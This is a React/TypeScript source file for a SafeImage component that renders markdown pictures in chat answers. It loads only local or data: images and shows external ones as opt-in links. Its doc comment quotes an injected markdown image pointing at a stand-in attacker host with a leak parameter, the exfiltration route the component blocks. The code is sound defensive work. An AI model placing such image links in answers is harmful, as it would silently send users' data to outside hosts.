import { lazy, Suspense } from 'react';
import { PictureOutlined } from '@ant-design/icons';
import { MSG } from '@xueban/contract/messages';
import { classifyImage } from './safe-url.ts';
import { loadChunk } from '../../lib/load-chunk.ts';

// Most answers have no picture: antd's Image (with its preview) loads with the first one.
const Image = lazy(() => loadChunk(() => import('antd/es/image')));

/**
 * A picture of rendered markdown. Only our own (or inline data:) pictures load, with antd's preview;
 * a picture on another host becomes a link the user may choose to open, so an injected
 * `![](https://attacker/?leak=...)` is never requested by merely showing the answer.
 */
export function SafeImage({ src, alt: label }: { src: string; alt: string }) {
  const source = classifyImage(src);
  if (source.kind === 'local') {
    const img = { className: 'chat-md-image', src: source.src, alt: label };
    return <Suspense fallback={<img {...img} />}><Image {...img} /></Suspense>;
  }
  if (source.kind === 'external') {
    return (
      <a className="chat-md-external-image" href={source.href} target="_blank" rel="noopener noreferrer" title={label || undefined}>
        <PictureOutlined /> {MSG.mdExternalImage}
        {source.host}
      </a>
    );
  }
  return label ? <span>{label}</span> : null;
}
